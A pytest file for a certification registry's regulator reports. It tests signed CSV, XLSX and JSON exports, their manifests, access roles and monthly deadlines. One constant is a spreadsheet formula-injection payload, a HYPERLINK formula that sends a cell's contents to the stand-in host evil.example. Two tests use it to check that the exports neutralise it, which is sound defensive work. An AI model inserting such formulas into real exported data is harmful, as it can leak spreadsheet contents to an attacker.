"""Regulator reports: opened with independent readers, signatures checked with PyJWT."""

import csv
import hashlib
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from registry.application import Registry, open_registry
from registry.errors import LifecycleConflict
from registry.regulator_reports import make_monthly, overdue
from registry.settings import Settings
from registry.signing import Keys, open_keys
from tests.api.conftest import SUSPENSION, Api, detached_verifies
from tests.conftest import Clock
from tests.examples import HOLDER, issue_request

TODAY = {"from": "2026-11-25", "to": "2026-11-25"}


def report(api: Api, fmt: str, **period: str) -> tuple[bytes, str]:
    response = api.client.get(
        "/api/v1/regulator/reports",
        params={**(period or TODAY), "format": fmt},
        headers=api.auth("regulator"),
    )
    assert response.status_code == 200, response.text
    return response.content, response.headers["X-Registry-Signature"]


def test_csv_report_opens_in_excel_and_its_signature_verifies(api: Api) -> None:
    no = api.issue()
    api.command(no, "suspensions", SUSPENSION)

    body, signature = report(api, "csv")

    assert body.startswith(b"\xef\xbb\xbf")  # the UTF-8 BOM
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert [r["事件"] for r in rows] == ["Issued", "Suspended"]
    assert rows[1]["原因"] == "发现获证组织服务持续地或严重地不满足认证要求"
    assert rows[1]["统一社会信用代码"] == "91440300708461136T"
    assert rows[1]["状态变化日期"] == "2026-06-01"
    assert detached_verifies(api, signature, body)
    assert not detached_verifies(api, signature, body + b" ")


def test_xlsx_report_opens_with_openpyxl(api: Api) -> None:
    no = api.issue()
    api.command(
        no, "revocations", {"reason": "k", "details": "主动", "effective_date": "2026-09-01"}
    )

    body, signature = report(api, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0][:3] == ["序号", "证书编号", "注册号"]
    assert [row[7] for row in values[1:]] == ["颁证", "撤销"]
    assert detached_verifies(api, signature, body)


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_a_holder_name_starting_a_formula_is_neutralised_in_the_csv_report(api: Api) -> None:
    api.issue(holder=HOLDER | {"name": FORMULA})

    body, _ = report(api, "csv")

    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0]["获证组织名称"] == "'" + FORMULA


def test_a_holder_name_starting_a_formula_is_a_string_in_the_xlsx_report(api: Api) -> None:
    api.issue(holder=HOLDER | {"name": FORMULA})

    body, _ = report(api, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert sheet["D2"].value == FORMULA


def test_json_report_lists_the_period(api: Api) -> None:
    api.issue()

    body, _ = report(api, "json")
    empty, _ = report(api, "json", **{"from": "2026-11-26", "to": "2026-11-30"})

    assert json.loads(body)["items"][0]["event_name"] == "颁证"
    assert json.loads(empty) == {"from": "2026-11-26", "to": "2026-11-30", "items": []}


def manifest_of(api: Api, fmt: str, **period: str) -> tuple[bytes, dict[str, Any], bool]:
    """(body, manifest, whether the manifest's signature verifies) of a served report."""
    response = api.client.get(
        "/api/v1/regulator/reports",
        params={**period, "format": fmt},
        headers=api.auth("regulator"),
    )
    manifest = response.headers["X-Registry-Manifest"].encode()
    signed = detached_verifies(api, response.headers["X-Registry-Manifest-Signature"], manifest)
    return response.content, json.loads(manifest), signed


def test_two_empty_reports_of_different_months_have_different_signed_manifests(
    api: Api,
) -> None:
    september = {"from": "2026-09-01", "to": "2026-09-30"}
    october = {"from": "2026-10-01", "to": "2026-10-31"}

    body_9, manifest_9, signed_9 = manifest_of(api, "csv", **september)
    body_10, manifest_10, signed_10 = manifest_of(api, "csv", **october)

    assert body_9 == body_10
    assert (signed_9, signed_10) == (True, True)
    assert manifest_9 == {
        "from": "2026-09-01",
        "to": "2026-09-30",
        "format": "csv",
        "generated_at": "2026-11-25T02:00:00+00:00",
        "sha256": hashlib.sha256(body_9).hexdigest(),
    }
    assert manifest_10["from"] == "2026-10-01"


def test_the_manifest_names_the_format(api: Api) -> None:
    _, manifest, _ = manifest_of(api, "json", **TODAY)

    assert manifest["format"] == "json"


def test_reports_are_for_the_regulator_and_refuse_bad_periods(api: Api) -> None:
    wrong_role = api.client.get(
        "/api/v1/regulator/reports", params=TODAY, headers=api.auth("auditor")
    )
    backwards = api.client.get(
        "/api/v1/regulator/reports",
        params={"from": "2026-11-25", "to": "2026-11-01"},
        headers=api.auth("regulator"),
    )
    bad_format = api.client.get(
        "/api/v1/regulator/reports",
        params={**TODAY, "format": "pdf"},
        headers=api.auth("regulator"),
    )

    assert [r.status_code for r in (wrong_role, backwards, bad_format)] == [403, 422, 422]


@pytest.fixture
def october(tmp_path: Path) -> Iterator[tuple[Registry, Keys, Clock]]:
    """A suspension recorded on 2026-10-15 (Beijing)."""
    clock = Clock(datetime(2026, 10, 15, 2, tzinfo=UTC))
    settings = Settings(
        database_url=f"sqlite:///{tmp_path}/r.sqlite", keys_dir=tmp_path / "keys", dev_mode=True
    )
    with open_registry(settings, clock=clock) as registry:
        keys = open_keys(registry, settings)
        keys.generate()
        no = registry.issue(actor="alice", **issue_request())["registration_no"]
        registry.command(
            "suspend",
            no,
            {"reason": "g", "details": "请求", "effective_date": date(2026, 10, 1)},
            actor="alice",
        )
        yield registry, keys, clock


def test_monthly_report_is_written_signed_and_recorded(
    october: tuple[Registry, Keys, Clock], tmp_path: Path
) -> None:
    registry, keys, clock = october
    clock.now = datetime(2026, 11, 3, 2, tzinfo=UTC)

    path = make_monthly(registry, keys, "2026-10", tmp_path / "out", actor="cli:test")

    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    assert [r["事件"] for r in rows] == ["Issued", "Suspended"]
    assert (path.parent / "regulator-report-2026-10.xlsx.jws").exists()
    manifest = json.loads((path.parent / "regulator-report-2026-10.manifest.json").read_text())
    assert (manifest["from"], manifest["to"], sorted(manifest["files"])) == (
        "2026-10-01",
        "2026-10-31",
        ["csv", "json", "xlsx"],
    )
    assert (path.parent / "regulator-report-2026-10.manifest.json.jws").exists()
    assert overdue(registry) == []
    clock.now = datetime(2026, 12, 20, 2, tzinfo=UTC)
    assert overdue(registry) == []


def test_a_month_not_reported_by_the_tenth_is_flagged(
    october: tuple[Registry, Keys, Clock],
) -> None:
    registry, _, clock = october

    clock.now = datetime(2026, 11, 10, 2, tzinfo=UTC)
    on_the_tenth = overdue(registry)
    clock.now = datetime(2026, 11, 11, 2, tzinfo=UTC)
    after = overdue(registry)

    assert on_the_tenth == []
    assert [(o.month, o.deadline, o.made_on, o.items) for o in after] == [
        ("2026-10", date(2026, 11, 10), None, 2)
    ]


def test_a_report_made_late_stays_flagged(
    october: tuple[Registry, Keys, Clock], tmp_path: Path
) -> None:
    registry, keys, clock = october
    clock.now = datetime(2026, 11, 12, 2, tzinfo=UTC)

    make_monthly(registry, keys, "2026-10", tmp_path / "out", actor="cli:test")

    assert [o.made_on for o in overdue(registry)] == [date(2026, 11, 12)]


def test_a_month_cannot_be_reported_before_it_ends(
    october: tuple[Registry, Keys, Clock], tmp_path: Path
) -> None:
    registry, keys, _ = october

    with pytest.raises(LifecycleConflict, match="has not ended"):
        make_monthly(registry, keys, "2026-10", tmp_path / "out", actor="cli:test")
